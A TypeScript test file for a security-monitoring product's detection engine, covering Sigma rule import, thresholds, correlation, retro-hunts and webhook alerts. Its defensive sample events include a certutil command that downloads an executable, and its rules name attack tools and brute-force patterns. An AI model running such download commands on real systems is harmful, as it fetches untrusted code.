import { spawn } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { zipSync, strToU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addMember, buildTestApp, buildUser, buildWorkspace, type TestApp, type TestUser } from './helpers/app.js';
import { testDatabaseUrl, testRedisUrl } from './helpers/services.js';

const PROCESS_RULE = `title: Ping with a count flag
id: 8b0bfbb1-2d4c-4a77-9d5a-0c0b0f3f0a01
status: test
level: high
tags: [attack.discovery, attack.t1018]
logsource: { product: windows, category: process_creation }
detection:
  selection:
    Image|endswith: '\\ping.exe'
    CommandLine|contains|windash: ' -n '
  condition: selection
`;

const BAD_AND_GOOD = `title: No detection here
logsource: { product: windows }
---
title: Whoami run
id: 8b0bfbb1-2d4c-4a77-9d5a-0c0b0f3f0a02
logsource: { product: windows, category: process_creation }
detection:
  sel: { Image|endswith: '\\whoami.exe' }
  condition: sel
---
title: Unknown modifier
logsource: { product: windows, category: process_creation }
detection:
  sel: { Image|sounds_like: 'x' }
  condition: sel
`;

const sysmon = (image: string, commandLine: string, ts: string, extra: Record<string, unknown> = {}) => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Hostname: 'WS-01', '@timestamp': ts, Image: image, CommandLine: commandLine, ...extra,
});

async function ingest(t: TestApp, workspaceId: string, events: Record<string, unknown>[]): Promise<void> {
  const results = await t.app.ingest.ingest(workspaceId, 'test', events.map((value) => ({ value })));
  expect(results.every((r) => r.status === 'stored')).toBe(true);
  await t.app.detection.idle();
}

async function alerts(t: TestApp, owner: TestUser, workspaceId: string, query = ''): Promise<Array<Record<string, unknown>>> {
  const res = await t.app.inject({ method: 'GET', url: `/api/v1/workspaces/${workspaceId}/alerts${query}`, headers: owner.headers });
  expect(res.statusCode).toBe(200);
  return res.json().alerts;
}

describe('detection on embedded defaults', () => {
  let t: TestApp;
  let owner: TestUser;
  let ws: { id: string };
  const url = (path: string) => `/api/v1/workspaces/${ws.id}/detection${path}`;

  beforeAll(async () => {
    t = await buildTestApp();
    owner = await buildUser(t.app);
    ws = await buildWorkspace(t.app, owner);
  });
  afterAll(async () => t.close());

  it('imports YAML documents one by one: bad ones are reported alone, the rest load', async () => {
    const res = await t.app.inject({ method: 'POST', url: url('/rules'), headers: { ...owner.headers, 'content-type': 'application/yaml' }, payload: BAD_AND_GOOD });
    expect(res.statusCode).toBe(200);
    const report = res.json();
    expect(report).toMatchObject({ files: 1, created: 1, updated: 0 });
    expect(report.rejected.map((r: { reason: string; index: number }) => [r.index, r.reason])).toEqual([[0, 'missing_detection'], [2, 'unsupported_modifier']]);
    // Nothing valid at all is 422, with the reasons.
    const none = await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml: 'title: [unclosed' } });
    expect(none.statusCode).toBe(422);
    expect(none.json().rejected[0].reason).toBe('invalid_yaml');
  });

  it('raises an alert when a matching event is ingested, with the rule, severity, tags and the event reference', async () => {
    const imported = await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml: PROCESS_RULE, file: 'ping.yml' } });
    expect(imported.json()).toMatchObject({ created: 1, rejected: [] });
    await ingest(t, ws.id, [
      sysmon('C:\\Windows\\System32\\PING.EXE', 'ping  /n 3 127.0.0.1', '2026-11-20T10:00:00Z'),
      sysmon('C:\\Windows\\System32\\PING.EXE', 'ping 127.0.0.1', '2026-11-20T10:00:01Z'),
      { ...sysmon('C:\\Windows\\System32\\PING.EXE', 'ping -n 3 10.0.0.1', '2026-11-20T10:00:02Z'), EventID: 3 },
    ]);
    const list = await alerts(t, owner, ws.id);
    const ping = list.filter((a) => a.ruleTitle === 'Ping with a count flag');
    expect(ping).toHaveLength(1);
    expect(ping[0]).toMatchObject({ severity: 'high', ruleKind: 'sigma', count: 1, tags: ['attack.discovery', 'attack.t1018'] });
    const detail = (await t.app.inject({ method: 'GET', url: `/api/v1/workspaces/${ws.id}/alerts/${ping[0]!.id as string}`, headers: owner.headers })).json();
    expect(detail.eventRefs).toHaveLength(1);
    // The reference leads to the stored event.
    const found = (await t.app.inject({ method: 'POST', url: `/api/v1/workspaces/${ws.id}/events/search`, headers: owner.headers, payload: { from: '2026-11-20T00:00:00Z', to: '2026-11-21T00:00:00Z', query: 'CommandLine:"ping  /n 3 127.0.0.1"' } })).json();
    expect(found.events[0].id).toBe(detail.eventRefs[0].id);
  });

  it('disables a rule, overrides its severity and keeps every version', async () => {
    const list = (await t.app.inject({ method: 'GET', url: url('/rules?kind=sigma&q=ping'), headers: owner.headers })).json();
    const rule = list.rules[0];
    const changed = PROCESS_RULE.replace("' -n '", "' -c '");
    expect((await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml: changed } })).json()).toMatchObject({ updated: 1 });
    expect((await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml: changed } })).json()).toMatchObject({ unchanged: 1 });
    const versions = (await t.app.inject({ method: 'GET', url: url(`/rules/${rule.id}/versions`), headers: owner.headers })).json().versions;
    expect(versions.map((v: { version: number }) => v.version)).toEqual([2, 1]);
    const patched = await t.app.inject({ method: 'PATCH', url: url(`/rules/${rule.id}`), headers: owner.headers, payload: { severity: 'critical', enabled: false } });
    expect(patched.json()).toMatchObject({ severity: 'critical', level: 'high', enabled: false, version: 2 });
    await ingest(t, ws.id, [sysmon('C:\\Windows\\System32\\PING.EXE', 'ping -c 3 127.0.0.1', '2026-11-20T10:30:00Z')]);
    expect((await alerts(t, owner, ws.id)).filter((a) => a.ruleId === rule.id)).toHaveLength(1);
    await t.app.inject({ method: 'PATCH', url: url(`/rules/${rule.id}`), headers: owner.headers, payload: { enabled: true } });
    await ingest(t, ws.id, [sysmon('C:\\Windows\\System32\\PING.EXE', 'ping -c 3 127.0.0.1', '2026-11-20T10:30:05Z')]);
    const after = (await alerts(t, owner, ws.id)).filter((a) => a.ruleId === rule.id);
    // Aggregated into the open alert, whose severity rises to the override.
    expect(after).toHaveLength(1);
    expect(after[0]).toMatchObject({ count: 2, severity: 'critical' });
  });

  it('imports a zip of rule files and reports rejects with their file names', async () => {
    const zip = zipSync({
      'rules/windows/a.yml': strToU8(PROCESS_RULE.replace('8b0bfbb1-2d4c-4a77-9d5a-0c0b0f3f0a01', '8b0bfbb1-2d4c-4a77-9d5a-0c0b0f3f0a11')),
      'rules/windows/b.yml': strToU8('title: broken\nlogsource: {product: windows}\ndetection: {sel: {a: 1}, condition: sel and nothing}\n'),
      'README.md': strToU8('not a rule'),
    });
    const res = await t.app.inject({ method: 'POST', url: url('/rules'), headers: { ...owner.headers, 'content-type': 'application/zip' }, payload: Buffer.from(zip) });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ files: 2, created: 1, rejected: [{ file: 'rules/windows/b.yml', reason: 'invalid_condition' }] });
    const garbage = await t.app.inject({ method: 'POST', url: url('/rules'), headers: { ...owner.headers, 'content-type': 'application/zip' }, payload: Buffer.from('PK not really') });
    expect(garbage.statusCode).toBe(400);
    expect(garbage.json().error.code).toBe('SIQ_RULE_ARCHIVE_INVALID');
  });

  it('fires a "more than 50 errors in 5 minutes" threshold exactly once for a burst of 60 and not for 50', async () => {
    const rule = await t.app.inject({
      method: 'POST', url: url('/thresholds'), headers: owner.headers,
      payload: { title: 'Too many errors', query: 'event.severity:<=3', groupBy: ['host.name'], timespan: '5m', condition: { gt: 50 }, level: 'medium' },
    });
    expect(rule.statusCode).toBe(201);
    const burst = (host: string, n: number, start: number) => Array.from({ length: n }, (_, i) => ({ '@timestamp': new Date(start + i * 1000).toISOString(), host: { name: host }, 'log.level': 'error', message: `disk error ${i}` }));
    const base = Date.parse('2026-11-20T12:00:00Z');
    await ingest(t, ws.id, burst('db-1', 60, base));
    await ingest(t, ws.id, burst('db-2', 50, base));
    const fired = (await alerts(t, owner, ws.id)).filter((a) => a.ruleId === rule.json().id);
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({ groupKey: 'host.name=db-1', count: 1 });
    // 50 more for db-2 six minutes later: the first 50 have left the window, so never more than 50.
    await ingest(t, ws.id, burst('db-2', 50, base + 6 * 60_000));
    expect((await alerts(t, owner, ws.id)).filter((a) => a.ruleId === rule.json().id)).toHaveLength(1);
  });

  it('ships built-in threshold rules that can be disabled but not deleted', async () => {
    const list = (await t.app.inject({ method: 'GET', url: url('/rules?kind=threshold&limit=100'), headers: owner.headers })).json();
    const builtins = list.rules.filter((r: { builtin: string | null }) => r.builtin).map((r: { builtin: string }) => r.builtin).sort();
    expect(builtins).toEqual(['authentication-failure-burst', 'critical-error', 'error-rate-spike', 'platform-account-lockout', 'platform-policy-denials', 'privilege-escalation']);
    const critical = list.rules.find((r: { builtin: string }) => r.builtin === 'critical-error');
    expect((await t.app.inject({ method: 'DELETE', url: url(`/rules/${critical.id}`), headers: owner.headers })).statusCode).toBe(409);
    await ingest(t, ws.id, [{ '@timestamp': '2026-11-20T13:00:00Z', host: { name: 'core-1' }, 'log.level': 'critical', message: 'kernel panic' }]);
    expect((await alerts(t, owner, ws.id)).filter((a) => a.ruleId === critical.id)).toHaveLength(1);
  });

  it('evaluates correlation rules: event_count per group, and temporal_ordered sequences', async () => {
    const yaml = `title: Failed logon
name: failed_logon
id: 0e95725d-7320-415d-80f7-004da920fc21
logsource: { product: windows, service: security }
detection:
  sel: { EventID: 4625 }
  condition: sel
---
title: Successful logon
name: good_logon
id: 0e95725d-7320-415d-80f7-004da920fc22
logsource: { product: windows, service: security }
detection:
  sel: { EventID: 4624 }
  condition: sel
---
title: Brute force
id: 0e95725d-7320-415d-80f7-004da920fc23
level: high
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [TargetUserName]
  timespan: 10m
  condition: { gte: 5 }
---
title: Brute force then success
id: 0e95725d-7320-415d-80f7-004da920fc24
level: critical
correlation:
  type: temporal_ordered
  rules: [0e95725d-7320-415d-80f7-004da920fc23, good_logon]
  group-by: [TargetUserName]
  timespan: 1h
`;
    expect((await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml } })).json()).toMatchObject({ created: 4, rejected: [] });
    const base = Date.parse('2026-11-20T14:00:00Z');
    const logon = (id: number, user: string, s: number) => ({ Channel: 'Security', EventID: id, TargetUserName: user, '@timestamp': new Date(base + s * 1000).toISOString() });
    await ingest(t, ws.id, [
      ...[0, 1, 2, 3, 4].map((s) => logon(4625, 'alice', s)),
      ...[0, 1, 2].map((s) => logon(4625, 'bob', s)),
      logon(4624, 'alice', 30),
      logon(4624, 'bob', 30),
    ]);
    const list = await alerts(t, owner, ws.id);
    const titles = list.filter((a) => a.ruleKind === 'correlation').map((a) => [a.ruleTitle, a.groupKey]).sort((x, y) => String(x[0]).localeCompare(String(y[0])));
    expect(titles).toEqual([['Brute force', 'TargetUserName=alice'], ['Brute force then success', 'TargetUserName=alice']]);
    // Referenced rules do not alert on their own (no `generate`).
    expect(list.filter((a) => a.ruleTitle === 'Failed logon')).toHaveLength(0);
  });

  it('expands %placeholders% per workspace', async () => {
    await t.app.inject({ method: 'PUT', url: url('/placeholders/admin_tools'), headers: owner.headers, payload: { values: ['\\psexec.exe', '\\adfind.exe'] } });
    const yaml = `title: Admin tool
id: 5c1e1b0a-0000-4000-8000-00000000aa01
logsource: { product: windows, category: process_creation }
detection:
  sel: { Image|expand|endswith: '%admin_tools%' }
  condition: sel
`;
    expect((await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml } })).json()).toMatchObject({ created: 1 });
    await ingest(t, ws.id, [sysmon('C:\\Tools\\AdFind.exe', 'adfind -f objectcategory=computer', '2026-11-20T15:00:00Z')]);
    expect((await alerts(t, owner, ws.id)).filter((a) => a.ruleTitle === 'Admin tool')).toHaveLength(1);
  });

  it('retro-hunts a rule over stored events with progress', async () => {
    const yaml = `title: Certutil download
id: 5c1e1b0a-0000-4000-8000-00000000bb01
logsource: { product: windows, category: process_creation }
detection:
  sel: { Image|endswith: '\\certutil.exe', CommandLine|contains: 'urlcache' }
  condition: sel
`;
    // Events first, the rule afterwards: only a hunt can find them.
    await ingest(t, ws.id, [
      sysmon('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://x/a.exe a.exe', '2026-11-18T09:00:00Z'),
      sysmon('C:\\Windows\\System32\\certutil.exe', 'certutil -verify', '2026-11-18T09:05:00Z'),
      sysmon('C:\\Windows\\System32\\certutil.exe', 'certutil.exe -URLCACHE -split -f http://y', '2026-11-18T09:40:00Z'),
    ]);
    const created = (await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml } })).json();
    expect(created.created).toBe(1);
    const rule = (await t.app.inject({ method: 'GET', url: url('/rules?q=certutil'), headers: owner.headers })).json().rules[0];
    const started = await t.app.inject({ method: 'POST', url: url(`/rules/${rule.id}/hunts`), headers: owner.headers, payload: { from: '2026-11-18T00:00:00Z', to: '2026-11-19T00:00:00Z', raiseAlerts: true } });
    expect(started.statusCode).toBe(202);
    let hunt = started.json();
    for (let i = 0; i < 100 && hunt.status === 'running'; i++) {
      await new Promise((r) => setTimeout(r, 50));
      hunt = (await t.app.inject({ method: 'GET', url: url(`/hunts/${hunt.id}`), headers: owner.headers })).json();
    }
    expect(hunt).toMatchObject({ status: 'done', eventsScanned: 3, matches: 2, progress: 1 });
    expect((await alerts(t, owner, ws.id)).filter((a) => a.ruleId === rule.id)[0]).toMatchObject({ count: 2 });
  });

  it('retro-hunts see the whole document, message included', async () => {
    // `message` is filled from `msg` by normalisation and stored once, in its column: the hunt
    // reads documents back with it.
    const yaml = `title: Backup wiped
id: 5c1e1b0a-0000-4000-8000-00000000bb02
logsource: { product: acme, service: backupd }
detection:
  sel: { message|contains: 'wiped all snapshots' }
  condition: sel
`;
    await ingest(t, ws.id, [
      { '@timestamp': '2026-11-17T09:00:00Z', 'logsource.product': 'acme', 'logsource.service': 'backupd', msg: 'operator wiped all snapshots of vault-3' },
      { '@timestamp': '2026-11-17T09:01:00Z', 'logsource.product': 'acme', 'logsource.service': 'backupd', msg: 'snapshot taken' },
    ]);
    const created = (await t.app.inject({ method: 'POST', url: url('/rules'), headers: owner.headers, payload: { yaml } })).json();
    expect(created.created).toBe(1);
    const rule = (await t.app.inject({ method: 'GET', url: url('/rules?q=Backup%20wiped'), headers: owner.headers })).json().rules[0];
    let hunt = (await t.app.inject({ method: 'POST', url: url(`/rules/${rule.id}/hunts`), headers: owner.headers, payload: { from: '2026-11-17T00:00:00Z', to: '2026-11-18T00:00:00Z' } })).json();
    for (let i = 0; i < 100 && hunt.status === 'running'; i++) {
      await new Promise((r) => setTimeout(r, 50));
      hunt = (await t.app.inject({ method: 'GET', url: url(`/hunts/${hunt.id}`), headers: owner.headers })).json();
    }
    expect(hunt).toMatchObject({ status: 'done', eventsScanned: 2, matches: 1 });
  });

  it('stores the platform\'s security events as workspace events and alerts on an account lockout', async () => {
    const member = await buildUser(t.app);
    await addMember(t.app, ws.id, owner, member, 'analyst');
    for (let i = 0; i < 5; i++) {
      await t.app.identity.signIn(member.email, 'wrong-password-123456', { ip: '198.51.100.7' }).catch(() => undefined);
      // Skip the growing wait between attempts, so the test reaches the lock quickly.
      await t.app.platform.cache.delete(`signin:wait:${member.id}`);
    }
    let locked: Array<Record<string, unknown>> = [];
    for (let i = 0; i < 100 && locked.length === 0; i++) {
      await new Promise((r) => setTimeout(r, 20));
      await t.app.detection.idle();
      locked = (await alerts(t, owner, ws.id)).filter((a) => a.ruleTitle === 'SentinelIQ account locked out');
    }
    expect(locked).toHaveLength(1);
    expect(locked[0]).toMatchObject({ groupKey: `user.id=${member.id}`, ruleKind: 'threshold' });
    const found = (await t.app.inject({ method: 'POST', url: `/api/v1/workspaces/${ws.id}/events/search`, headers: owner.headers, payload: { from: new Date(Date.now() - 3_600_000).toISOString(), to: new Date(Date.now() + 60_000).toISOString(), query: 'event.module:sentineliq AND event.action:"auth.sign_in_failed"' } })).json();
    expect(found.events).toHaveLength(5);
    expect(found.events[0]).toMatchObject({ 'source.ip': '198.51.100.7', 'user.id': member.id });
  });

  it('refuses another workspace\'s rules', async () => {
    const intruder = await buildUser(t.app);
    const other = await buildWorkspace(t.app, intruder);
    const rule = (await t.app.inject({ method: 'GET', url: url('/rules?limit=1'), headers: owner.headers })).json().rules[0];
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/workspaces/${other.id}/detection/rules/${rule.id}`, headers: intruder.headers });
    expect(res.statusCode).toBe(404);
    expect([403, 404]).toContain((await t.app.inject({ method: 'GET', url: url(`/rules/${rule.id}`), headers: intruder.headers })).statusCode);
  });
});

describe.skipIf(!testDatabaseUrl || !testRedisUrl)('detection across processes (PostgreSQL + Redis)', () => {
  let a: Awaited<ReturnType<typeof buildTestApp>>;
  let b: TestApp;
  const prefix = `siq-detect-${Date.now()}:`;
  let receiver: Server;
  const received: Array<{ body: string; headers: Record<string, string | string[] | undefined> }> = [];

  beforeAll(async () => {
    a = await buildTestApp({ REDIS_URL: testRedisUrl!, REDIS_KEY_PREFIX: prefix }, { postgres: true });
    b = await buildTestApp({ DATABASE_URL: a.databaseUrl!, REDIS_URL: testRedisUrl!, REDIS_KEY_PREFIX: prefix });
    receiver = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        received.push({ body, headers: req.headers });
        res.writeHead(200).end('ok');
      });
    });
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  });
  afterAll(async () => {
    receiver.close();
    await b.close();
    await a.close();
  });

  it('counts a threshold window across two processes and notifies a signed webhook once', async () => {
    const owner = await buildUser(a.app);
    const ws = await buildWorkspace(a.app, owner);
    const port = (receiver.address() as AddressInfo).port;
    const secret = 'webhook-secret-0123456789';
    const channel = await a.app.inject({ method: 'POST', url: `/api/v1/workspaces/${ws.id}/notification-channels`, headers: owner.headers, payload: { name: 'soc', type: 'webhook', minSeverity: 'low', config: { url: `http://127.0.0.1:${port}/hook`, secret } } });
    expect(channel.statusCode, channel.body).toBe(201);
    const rule = await a.app.inject({ method: 'POST', url: `/api/v1/workspaces/${ws.id}/detection/thresholds`, headers: owner.headers, payload: { title: 'Error storm', query: 'event.severity:<=3', groupBy: ['host.name'], timespan: '5m', condition: { gt: 50 }, level: 'high' } });
    expect(rule.statusCode).toBe(201);
    const base = Date.parse('2026-11-20T16:00:00Z');
    const events = Array.from({ length: 60 }, (_, i) => ({ '@timestamp': new Date(base + i * 1000).toISOString(), host: { name: 'web-1' }, 'log.level': 'error', message: `e${i}` }));
    // Half through each process: only the shared window sees more than 50.
    await Promise.all([ingest(a, ws.id, events.filter((_, i) => i % 2 === 0)), ingest(b, ws.id, events.filter((_, i) => i % 2 === 1))]);
    const fired = (await alerts(a, owner, ws.id)).filter((x) => x.ruleId === rule.json().id);
    expect(fired).toHaveLength(1);
    await a.app.notify.deliverDue();
    await b.app.notify.deliverDue();
    const hooks = received.filter((r) => r.body.includes('Error storm'));
    expect(hooks).toHaveLength(1);
    const { body, headers } = hooks[0]!;
    const expected = `sha256=${createHmac('sha256', secret).update(`${String(headers['x-sentineliq-timestamp'])}.${body}`).digest('hex')}`;
    expect(headers['x-sentineliq-signature']).toBe(expected);
  });
});

describe.skipIf(!testDatabaseUrl)('sentineliq rules import and ingest (CLI)', () => {
  let t: Awaited<ReturnType<typeof buildTestApp>>;
  const dir = mkdtempSync(join(tmpdir(), 'siq-rules-'));
  const bin = fileURLToPath(new URL('../bin/sentineliq.js', import.meta.url));
  const cli = (args: string[]) => new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
    const child = spawn(process.execPath, [bin, ...args], { env: { PATH: process.env.PATH, DATABASE_URL: t.databaseUrl!, DATA_DIR: dir, LOG_LEVEL: 'warn' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
  beforeAll(async () => {
    t = await buildTestApp({}, { postgres: true });
  });
  afterAll(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('imports a directory and a zip, listing each rejected rule, then detects on `sentineliq ingest`', async () => {
    const owner = await buildUser(t.app);
    const ws = await buildWorkspace(t.app, owner);
    mkdirSync(join(dir, 'rules/windows'), { recursive: true });
    writeFileSync(join(dir, 'rules/windows/ping.yml'), PROCESS_RULE);
    writeFileSync(join(dir, 'rules/windows/bad.yml'), 'title: bad\nlogsource: {product: windows}\ndetection: {sel: {Image|nope: x}, condition: sel}\n');
    writeFileSync(join(dir, 'more.zip'), zipSync({ 'x/whoami.yml': strToU8(BAD_AND_GOOD.split('---')[1]!) }));
    const out = await cli(['rules', 'import', join(dir, 'rules'), join(dir, 'more.zip'), '--workspace', ws.id]);
    expect(out.stderr).toBe('');
    expect(out.code).toBe(0);
    expect(out.stdout).toContain('windows/bad.yml: unsupported_modifier');
    expect(out.stdout).toContain('3 files: 2 rules created, 0 updated, 0 unchanged, 1 rejected');
    const events = join(dir, 'events.ndjson');
    writeFileSync(events, [sysmon('C:\\Windows\\System32\\whoami.exe', 'whoami /all', '2026-11-21T08:00:00Z'), sysmon('C:\\Windows\\notepad.exe', 'notepad', '2026-11-21T08:00:01Z')].map((e) => JSON.stringify(e)).join('\n'));
    const ingested = await cli(['ingest', events, '--workspace', ws.id]);
    expect(ingested.code).toBe(0);
    const raised = (await alerts(t, owner, ws.id)).filter((a) => a.ruleTitle === 'Whoami run');
    expect(raised).toHaveLength(1);
  }, 60_000);
});
